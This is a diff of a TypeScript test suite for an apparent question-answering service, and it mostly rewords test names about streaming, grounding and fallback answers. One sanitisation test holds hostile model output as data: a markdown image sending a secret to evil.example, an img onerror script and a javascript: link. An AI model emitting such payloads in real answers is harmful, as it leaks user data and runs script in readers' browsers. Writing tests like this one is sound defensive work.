@@ -101,7 +101,7 @@ async function listen(query: string, { answer = true, onPiece = () => {} } = {})
   throw new Error('The query did not complete.')
 }
 
-describe('an answer drawn from passages', () => {
+describe('an extractive answer', () => {
   beforeAll(() => {
     const { model } = canopy.app
     canopy.app.model = null
@@ -132,7 +132,7 @@ describe('an answer drawn from passages', () => {
     expect(await listen(query)).toMatchObject({ text: answer?.text, answer: { text: answer?.text } })
   })
 
-  it('is not made unless the query or the agent wants it', async () => {
+  it('is created only if the query or the agent requests it', async () => {
     expect((await ask(LEAVE, false)).answer).toBeNull()
     expect(await listen(LEAVE, { answer: false })).toEqual({ pieces: [], text: '', answer: null })
     const { createAgent } = await canopy.client.run(SetAnswers, {
@@ -145,14 +145,14 @@ describe('an answer drawn from passages', () => {
     expect(agentQuery.answer?.text).toContain('25 days')
   })
 
-  it('is none where nothing says it', async () => {
+  it('is absent if nothing supports it', async () => {
     expect((await ask('qwertyuiop zxcvbnm')).answer).toBeNull()
     expect(await listen('qwertyuiop zxcvbnm')).toEqual({ pieces: [], text: '', answer: null })
   })
 })
 
-describe('an answer by a model', () => {
-  it('comes piece by piece, without the markers, cited and checked', async () => {
+describe('an answer from a model', () => {
+  it('streams without citation markers, cited and checked', async () => {
     model.behave = say([
       'Annual leave',
       ' is 25 da',
@@ -185,7 +185,7 @@ describe('an answer by a model', () => {
     )
   })
 
-  it('is sent on while the model still writes', async () => {
+  it('streams while the model is still writing', async () => {
     let finish = () => {}
     model.behave = response => {
       sendPiece(response, 'Annual leave is')
@@ -201,7 +201,7 @@ describe('an answer by a model', () => {
     expect(seen).toEqual(['Annual leave', ' is 25', ' days.'])
   })
 
-  it('is plain text, whatever the model writes, and its citations count in that text', async () => {
+  it('is plain text whatever the model writes, and citation offsets match that text', async () => {
     model.behave = say([
       '![x](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))\n\n',
       'Annual **leave** is <b>25 days</b> \u202Eand\u0000 fun \ud83d',
@@ -216,14 +216,14 @@ describe('an answer by a model', () => {
     )
   })
 
-  it('is given up when it has more than 8,000 characters, white space included', async () => {
+  it('is dropped over 8,000 characters, white space included', async () => {
     // It never ends: only its length can end it.
     model.behave = response => sendPiece(response, `A${' '.repeat(8_000)}`)
     expect((await ask(LEAVE)).answer).toMatchObject({ grounded: true, model: null })
     await expect.poll(() => model.left).toBe(1)
   })
 
-  it('is grounded where the model keeps to the passages, in Korean as well', async () => {
+  it('is grounded if the model follows the passages, in Korean too', async () => {
     model.behave = reply(goodWriter)
     for (const query of [LEAVE, '연차휴가는 며칠인가요?']) {
       const { answer } = await ask(query)
@@ -233,7 +233,7 @@ describe('an answer by a model', () => {
     }
   })
 
-  it('says so where a model makes things up', async () => {
+  it('is not grounded if the model makes things up', async () => {
     model.behave = say(['Annual leave is 40 days [1]. It is paid twice [9].'])
     const { answer } = await ask(LEAVE)
     expect(answer).toMatchObject({ grounded: false, citations: [{ start: 0, end: 23 }] })
@@ -246,14 +246,14 @@ describe('an answer by a model', () => {
     ['sends something other than events', refuse(200, '{"choices":[]}'), 0],
     ['breaks off', breakOff(['Annual leave', ' is forty']), 1],
     ['writes on and on', say(['Annual leave ', 'is long. '.repeat(1_000)]), 1],
-  ])('is drawn from passages when the model %s', async (_, behave, restarts) => {
+  ])('falls back to passages if the model %s', async (_, behave, restarts) => {
     model.behave = behave
     const drawn = await listen(LEAVE)
     expectDrawn(drawn, restarts)
     expect((await ask(LEAVE)).answer?.text).toBe(drawn.text)
   })
 
-  it('is drawn from passages when the model does not end in time', async () => {
+  it('falls back to passages if the model is too slow', async () => {
     const timers = holdTimers(MODEL_TIMEOUT_MS)
     model.behave = response => sendPiece(response, 'Annual leave')
     const drawn = await listen(LEAVE, { onPiece: timers.expire })
@@ -270,7 +270,7 @@ describe('an answer by a model', () => {
     expect(pieces.filter(piece => piece.restart)).toHaveLength(restarts)
   }
 
-  it('is written to its end when nobody listens any more, and can be read afterwards', async () => {
+  it('is completed without subscribers and can be read later', async () => {
     let finish = () => {}
     model.behave = response => {
       sendPiece(response, 'Annual leave is')
